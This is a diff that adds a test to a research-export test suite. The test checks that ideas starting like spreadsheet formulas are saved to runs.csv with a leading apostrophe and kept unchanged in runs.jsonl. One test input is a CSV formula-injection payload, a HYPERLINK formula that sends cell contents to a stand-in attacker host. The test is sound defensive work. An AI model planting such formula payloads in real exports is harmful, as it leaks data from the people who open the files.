@@ -218,4 +218,17 @@ describe('research export', () => {
     expect(bad.status).toBe(400)
     expect((await fetch(`${server.url}/api/admin/exports/${randomUUID()}`, { headers: { cookie: leader } })).status).toBe(404)
   })
+
+  it('writes ideas that start like a spreadsheet formula into runs.csv as text, with a leading apostrophe', async () => {
+    const ideas = ['=HYPERLINK("http://evil.example/?leak="&A1,"Klick mich")', '+1+1', '-2 Katzen', '@SUM(A1:A9)']
+    const ids = await Promise.all(ideas.map(input_text => createRun(server, { perspective: 'bauhaus', input_text }, studio)))
+    for (const id of ids) await waitForRun(server, id, undefined, 30_000, studio)
+    const { dir } = await downloadExport(`ids=${ids.join(',')}`)
+    const [header, ...rows] = parseCsv(readFileSync(join(dir, 'runs.csv'), 'utf8').slice(1))
+    const inputs = rows.map(row => row[header!.indexOf('input_text')])
+    expect(inputs.sort()).toEqual(ideas.map(idea => `'${idea}`).sort())
+    // The research data itself is unchanged: runs.jsonl and the run folders keep the idea as typed.
+    const jsonl = readFileSync(join(dir, 'runs.jsonl'), 'utf8').trim().split('\n').map(line => JSON.parse(line).input_text)
+    expect(jsonl.sort()).toEqual([...ideas].sort())
+  })
 })
